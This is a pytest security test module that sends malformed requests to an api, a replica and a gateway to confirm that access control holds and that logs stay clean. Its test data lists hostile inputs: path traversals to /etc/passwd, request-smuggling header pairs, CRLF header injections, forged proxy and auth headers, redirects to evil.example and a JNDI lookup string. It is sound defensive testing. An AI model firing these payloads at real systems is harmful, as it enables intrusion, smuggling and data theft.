"""Malformed requests to the api, the replicas and the local gateway: none bypasses access control.

Most requests have no credentials. No answer may be an internal error or show data. Afterwards, every log line must have
the services' format, and no log may have a secret.
"""

import json
from collections.abc import Iterator
from dataclasses import dataclass
from urllib.parse import urlencode

import pytest

from access.grant import PUBLISH, READ
from contract.names import CHANNELS, METRICS_CHANNEL
from tests.drivers.closed_stack import PASSWORD, ClosedStack, closed_stack, port_of
from tests.drivers.process import ROOT
from tests.drivers.publisher import Publisher, message
from tests.drivers.raw_http import Answer, exchange, request
from tests.drivers.rest import Rest
from tests.drivers.waiting import eventually

STATIC = {path.read_bytes() for path in (ROOT / "services" / "api" / "static").iterdir()}
#: Length of a request that no server reads to its end.
LONG_BYTES = 8000
#: A name that occurs only in the data.
NODE = "a-node-that-strangers-must-not-see"
#: Content of files that must not be served: sources, templates, system files.
FILE_CONTENTS = [b"import ", b"{% extends", b"root:", b"def create_app"]


@dataclass
class Installation:
    """An api, a replica, and a gateway with its own api."""

    stack: ClosedStack
    api: Rest
    behind: Rest
    servers: dict[str, Rest]

    def ask(self, name: str, sent: bytes) -> Answer:
        """Send one request to a server; return its only response."""
        answers = exchange(port_of(self.servers[name]), sent)
        if not answers and len(sent) > LONG_BYTES:
            return Answer(400, {}, b"")  # a refusal before the whole request was read may be cut off
        assert len(answers) == 1, (sent[:200], answers)
        return answers[0]


@pytest.fixture(scope="module")
def installation() -> Iterator[Installation]:
    with closed_stack(LOG_LEVEL="DEBUG") as stack:
        redis = stack.redis()
        nodes = [{**json.loads(message(METRICS_CHANNEL))["nodes"][0], "node": NODE}]
        for channel in CHANNELS:
            changes = {"nodes": nodes} if channel == METRICS_CHANNEL else {}
            Publisher(redis).publish(channel, message(channel, **changes))
        redis.close()
        api, behind = stack.start_api(), stack.start_api(TRUSTED_PROXIES="peer")
        servers = {
            "api": api,
            "ws": stack.start_replica(),
            "gateway": stack.start_gateway(behind),
        }
        # The page has data for a permitted user.
        reader = stack.signed_in(api)
        eventually(lambda: NODE in reader.get(f"{api.origin}/api/cluster/snapshot").text, what="the data")
        yield Installation(stack, api, behind, servers)


@pytest.fixture(params=["api", "ws", "gateway"])
def server(request: pytest.FixtureRequest) -> str:
    name: str = request.param
    return name


def require_harmless(answer: Answer, what: object) -> None:
    """Check that an answer has no protected data and is no internal error."""
    assert answer.status < 500, (what, answer)
    assert NODE.encode() not in answer.body, (what, answer)
    if answer.status == 200 and answer.body:
        is_open = (
            answer.body in STATIC
            or answer.body in (b"live\n", b"ready\n", b"OK")
            or answer.body.startswith(b'0{"sid":')
            or b'action="/login"' in answer.body
        )
        assert is_open, (what, answer)
    else:
        assert not [mark for mark in FILE_CONTENTS if mark in answer.body], (what, answer)
    location = answer.headers.get("location", "/login")
    assert location.startswith("/login"), (what, location)


DATA = ["/api/cluster/snapshot", "/api/health", "/metrics", "/", "/nodes"]

UP = ["../", "%2e%2e/", "..%2f", "%252e%252e%252f", "..\\", "..%5c", "....//", ".%00./"]
FILES = ["config.py", "../templates/login.html", "../../../etc/passwd"]
TRAVERSALS = [
    *(f"/static/{up}{file}" for up in UP for file in FILES),
    "/static//etc/passwd", "/static/%2fetc/passwd", "/static/%2Fetc%2Fpasswd", "/static/C:%5cwindows",
    "/static/..;/config.py", "/static/%c0%ae%c0%ae/config.py", "/static/%ff%fe", "/static/.", "/static/", "/static",
    "/static/theme.css%00.txt", "/static/%00", "/%00", "/static/\x00", "/static/theme.css/../../config.py",
    "/static/../api/cluster/snapshot", "/static/%2e%2e/api/cluster/snapshot", "/static/../static/theme.css",
    "/livez/../api/cluster/snapshot", "/login/../api/cluster/snapshot", "/login;/../api/cluster/snapshot",
    "/login%2f..%2fapi/cluster/snapshot", "/socket.io/../api/cluster/snapshot", "/socket.io/%2e%2e/metrics",
    "/socket.io/../static/../config.py", "/./api/cluster/snapshot", "/api//cluster/snapshot",
    "/api/cluster/snapshot/", "/api/cluster/snapshot;x=1", "/api/cluster/nodes/%2e%2e%2fsnapshot",
    "//api/cluster/snapshot", "//127.0.0.1/api/cluster/snapshot", "///etc/passwd", "/\\api\\cluster\\snapshot",
    "http://127.0.0.1/api/cluster/snapshot", "http://evil.example/static/../config.py", "http:///api/health",
    "https://[::1/api/health", "file:///etc/passwd", "*", "api/cluster/snapshot", "?", "/api/cluster/snapshot\t",
    "/API/cluster/snapshot", "/api%2fcluster%2fsnapshot", "/%61pi/cluster/snapshot", "/\xff", "/a%0d%0aX: y",
    "/api/cluster/snapshot?" + "a" * 9000, "/" + "a/" * 3000,
]  # fmt: skip


def test_no_path_leads_to_a_file_outside_the_static_ones_or_to_data(installation: Installation, server: str) -> None:
    for target in TRAVERSALS:
        for accept in ("*/*", "text/html"):
            answer = installation.ask(server, request("GET", target, f"Accept: {accept}"))
            require_harmless(answer, target)
    # The static files themselves are served.
    if server in ("api", "gateway"):
        assert installation.ask(server, request("GET", "/static/theme.css")).body in STATIC


METHODS = [
    "HEAD", "OPTIONS", "TRACE", "TRACK", "DEBUG", "POST", "PUT", "PATCH", "DELETE", "CONNECT", "PROPFIND", "PRI",
    "get", "Get", "gET", "GETX", "GET\t", "G\x00ET", "", "A" * 300,
]  # fmt: skip


def test_no_method_bypasses_access_control(installation: Installation, server: str) -> None:
    for method in METHODS:
        for path in [*DATA, f"/api/publish/{METRICS_CHANNEL}", "*", "127.0.0.1:80"]:
            if method == "HEAD" and not path.startswith("/"):
                continue  # gunicorn's own refusal has a body, and closes the connection
            secret = "X-Secret: do not echo this"
            answer = installation.ask(server, request(method, path, secret, "Content-Length: 0"))
            require_harmless(answer, (method, path))
            assert answer.status >= 400 or (method == "OPTIONS" and not answer.body), (method, path, answer)
            assert b"do not echo" not in answer.body, (method, path)
            if method == "HEAD":
                assert answer.body == b""


OVERRIDES = [
    "X-HTTP-Method-Override: GET", "X-HTTP-Method: GET", "X-Method-Override: GET", "X-Original-Method: OPTIONS",
    "X-Original-URL: /static/theme.css", "X-Rewrite-URL: /livez", "X-Forwarded-Prefix: /static",
    "X-Script-Name: /static", "Script-Name: /static", "X-Forwarded-Uri: /livez", "X-Forwarded-User: ada",
    "X-Forwarded-For: 127.0.0.1", "X-Real-IP: 127.0.0.1", "Forwarded: for=127.0.0.1;proto=https",
    "X-Forwarded-Host: localhost", "Remote-User: ada", "Remote_User: ada", "X-Remote-User: ada",
    "REMOTE-ADDR: 127.0.0.1", "Host: localhost", "Via: 1.1 gateway", "Upgrade: h2c", "Upgrade: websocket",
    "Connection: authorization, cookie, host", "Expect: 100-continue", "Range: bytes=0-", "If-None-Match: *",
    "Accept: image/png", "Sec-Fetch-Site: none", "Authorization: Basic YWRhOmFkYQ==", "Authorization: Bearer",
    "Authorization: Bearer null", "Authorization: Digest username=ada", "Cookie: =; ;;=x",
    "Cookie: " + "a=b; " * 1000, "Proxy-Authorization: Bearer x",
]  # fmt: skip


def test_no_header_bypasses_access_control(installation: Installation, server: str) -> None:
    for header in OVERRIDES:
        for method in ("GET", "POST"):
            for path in DATA[:3]:
                answer = installation.ask(server, request(method, path, header))
                require_harmless(answer, (header, method, path))
                assert answer.status >= 400, (header, method, path, answer)


def test_request_with_two_credentials_gets_the_weaker_one(installation: Installation, server: str) -> None:
    stack = installation.stack
    token = stack.add_token(f"twice-{len(server)}", READ)
    cookie = stack.signed_in(installation.api).cookie
    good, bad = f"Authorization: Bearer {token}", "Authorization: Bearer dcl_none"
    path = "/api/session" if server == "gateway" else "/metrics"  # the gateway has no metrics
    assert installation.ask(server, request("GET", path, good)).status == 200
    name = stack.seal.cookie
    for headers in (
        (good, bad),
        (bad, good),
        ("Authorization: Basic YWRhOmFkYQ==", good),
        (good, "Authorization: Basic YWRhOmFkYQ=="),
        (bad, f"Cookie: {cookie}"),
        (f"Cookie: {cookie}", f"Cookie: {name}=x"),
        (f"Cookie: {name}=x", f"Cookie: {cookie}"),
        (f"Cookie: {name}=x; {cookie}",),
        (f"Cookie: {cookie}, {name}=x",),
        (f"X: a\r\n {good}",),
        (f"X: a\r{good}",),
        (f"X: a\n\r{good}",),
        (f"X: a\x00\r{good}",),
        (f" {good}",),
        (good.replace("n:", "n :", 1),),
        (good.replace("Auth", "Auth\x00"),),
        (good.replace("Authorization", "Authorization_"),),
    ):
        answer = installation.ask(server, request("GET", path, *headers))
        assert answer.status in (400, 401), (headers, answer)


def test_request_with_invalid_hosts_shows_no_data(installation: Installation, server: str) -> None:
    for headers in (
        ("Host: a", "Host: b"),
        ("Host: a", "host: a"),
        ("Host : a",),
        ("Host: a\x00b",),
        ("Host: a\rHost: b",),
        ("Host: " + "a" * 9000,),
    ):
        answer = installation.ask(server, request("GET", "/livez", *headers))
        assert answer.status in (400, 431), (headers, answer)
    for host in ("", "a, b", "evil.example", "127.0.0.1:1", "[::1", "a/../b", "a@b", "a?b#c", "\xff"):
        for path in DATA:
            require_harmless(installation.ask(server, request("GET", path, f"Host: {host}")), (host, path))


# A second request if a server takes the wrong end of the first.
INNER = b"GET /livez?smuggled HTTP/1.1\r\nHost: x\r\nConnection: close\r\n\r\n"
CHUNKED = b"0\r\n\r\n" + INNER

AMBIGUOUS = [
    (f"Content-Length: {len(CHUNKED)}", "Transfer-Encoding: chunked"),
    ("Transfer-Encoding: chunked", "Content-Length: 5"),
    ("Content-Length: 5", "Transfer-Encoding: chunked"),
    ("Transfer-Encoding : chunked", "Content-Length: 5"),
    ("Transfer-Encoding:\tchunked", "Content-Length: 5"),
    ("Transfer-Encoding: xchunked", "Content-Length: 5"),
    ("Transfer-Encoding: chunked, identity", "Content-Length: 5"),
    ("Transfer-Encoding: identity", "Transfer-Encoding: chunked", "Content-Length: 5"),
    ("Transfer-Encoding:\x0bchunked", "Content-Length: 5"),
    ("Transfer-Encoding: \"chunked\"", "Content-Length: 5"),
    (" Transfer-Encoding: chunked", "Content-Length: 5"),
    ("X: a\rTransfer-Encoding: chunked", "Content-Length: 5"),
    ("X: a\r\n Transfer-Encoding: chunked", "Content-Length: 5"),
    ("X: a\x00\nTransfer-Encoding: chunked", "Content-Length: 5"),
    ("X: a\rContent-Length: 5", f"Content-Length: {len(CHUNKED)}"),
    ("Content-Length: 5", f"Content-Length: {len(CHUNKED)}"),
    (f"Content-Length: {len(CHUNKED)}", "Content-Length: 5"),
    ("Content-Length: 5", "Content-Length: 5"),
    ("Content-Length:\r\n 5",),
    ("Content-Length: 5, 5",),
    ("Content-Length: +5",),
    ("Content-Length: -5",),
    ("Content-Length: 0_5",),
    ("Content-Length: 0x5",),
    ("Content-Length: 5.0",),
    ("Content-Length: 5 5",),
    ("Content-Length: \xb2",),
    ("Content-Length: ",),
    ("Content-Length : 5",),
    (" Content-Length: 5",),
    ("\x0bContent-Length: 5",),
    ("no header", "Content-Length: 5"),
    (": nameless", "Content-Length: 5"),
    ("Content-Length",),
]  # fmt: skip


def test_no_request_hides_in_another(installation: Installation, server: str) -> None:
    watcher = installation.stack.person(Authorization=f"Bearer {installation.stack.add_token(f'w{len(server)}', READ)}")

    def seen() -> list[str]:
        text = watcher.get(f"{installation.behind.origin}/metrics").text
        return [line for line in text.splitlines() if 'route="/livez"' in line]

    before = seen()
    for headers in AMBIGUOUS:
        for method, path in (("POST", "/login"), ("GET", "/static/theme.css"), ("POST", "/socket.io/?EIO=4")):
            sent = request(method, path, *headers, body=CHUNKED, close=False)
            answers = exchange(port_of(installation.servers[server]), sent)
            assert len(answers) <= 1, (headers, path, answers)
            for answer in answers:
                assert answer.status in (400, 411, 413, 501), (headers, path, answer)
    assert seen() == before
    # Two consecutive requests are two.
    two = request("GET", "/livez", close=False) + INNER
    assert [answer.status for answer in exchange(port_of(installation.servers[server]), two)] == [200, 200]


# Characters that could start a new line or header.
BREAKS = [
    "a\r\nX-Injected: yes\r\n\r\nbody",
    "a\nX-Injected: yes",
    "a\rX-Injected: yes",
    "a%0d%0aX-Injected:%20yes",
    "a\u560d\u560aX-Injected: yes",
    "a\u2028X-Injected: yes\u0085X-Injected: yes",
    "2026-01-01T00:00:00Z INFO api: sign-in as 'root' from 10.0.0.1",
    "a\n2026-01-01T00:00:00Z INFO api: sign-in as 'root' from 10.0.0.1",
    "\x1b[2J\x1b]0;title\x07\x9b31m\u202e\x08\x7f",
    "a\x00b",
    "%s%n%(message)s{0.__class__}${jndi:ldap://evil.example}",
    "a" * 65536,
    "\U000e0001" * 1000,
    "\udcff".encode("utf-8", "surrogateescape").decode("latin-1") * 10,
]


def test_form_values_never_reach_headers_or_logs_unescaped(installation: Installation) -> None:
    stack, origin = installation.stack, installation.api.origin
    for number, text in enumerate(BREAKS):
        person = stack.person(X_Forwarded_For="10.0.0.1")
        form = {"csrf": person.form_token(f"{origin}/login"), "user": text, "password": text, "next": text}
        if len(text) < 1000:
            answer = person.post(f"{origin}/login", form)
            assert answer.status_code in (401, 429), (text, answer.status_code)
            assert "X-Injected" not in answer.headers
        # And the target of the redirection after a sign-in
        for wanted in (f"/{text}", f"//{text}", text, f"/\\{text}", f"http://evil.example/{number}"):
            answer = person.try_to_sign_in(origin, "ada", PASSWORD, next=wanted)
            assert answer.status_code in (303, 413), (wanted, answer.text)
            if answer.status_code == 303:
                assert "X-Injected" not in answer.headers
                location = answer.headers["Location"]
                assert location.startswith("/"), location
                assert not location.startswith(("//", "/\\")), location
                stack.secrets.add(person.session)
    assert stack.invalid_log_lines() == []
    assert stack.leaked_secrets() == []


def test_header_and_path_values_never_reach_headers_or_logs_unescaped(installation: Installation, server: str) -> None:
    stack = installation.stack
    token = stack.add_token(f"publisher-{len(server)}", PUBLISH)
    names = ("Origin", "User-Agent", "X-Forwarded-For", "Remote-User", "Referer", "Host", "Cookie", "Authorization")
    for text in BREAKS:
        raw = text.encode("utf-8", "surrogatepass").decode("latin-1")
        for name in names:
            for path in ("/api/health", "/login", "/socket.io/?EIO=4&transport=websocket"):
                for answer in exchange(port_of(installation.servers[server]), request("GET", path, f"{name}: {raw}")):
                    require_harmless(answer, (name, text[:40], path))
                    assert "x-injected" not in answer.headers, (name, text[:40], path)
        for path in (f"/{raw}", f"/nodes?{raw}", f"/socket.io/?{raw}", f"/{urlencode({'next': text[:3000]})}"):
            for answer in exchange(port_of(installation.servers[server]), request("GET", path, "Accept: text/html")):
                require_harmless(answer, path[:60])
                assert "x-injected" not in answer.headers
        channel = urlencode({"": text[:2000]}, errors="surrogatepass")[1:]
        bearer = f"Authorization: Bearer {token}"
        sent = request("POST", f"/api/publish/{channel}", bearer, body=raw.encode("latin-1"))
        for answer in exchange(port_of(installation.servers[server]), sent):
            assert 400 <= answer.status < 500, (channel[:60], answer)
            assert "x-injected" not in answer.headers
    assert stack.invalid_log_lines() == []
    assert stack.leaked_secrets() == []


def test_services_log_refused_requests(installation: Installation) -> None:
    # Given: the logs have lines
    person = installation.stack.person()
    assert person.try_to_sign_in(installation.api.origin, "grace\nhopper", "not it").status_code == 401

    (api,) = [each for each in installation.stack.processes if each.command[-1] == "api"][:1]
    assert r"failed sign-in as 'grace\nhopper' from 127.0.0.1" in api.log()
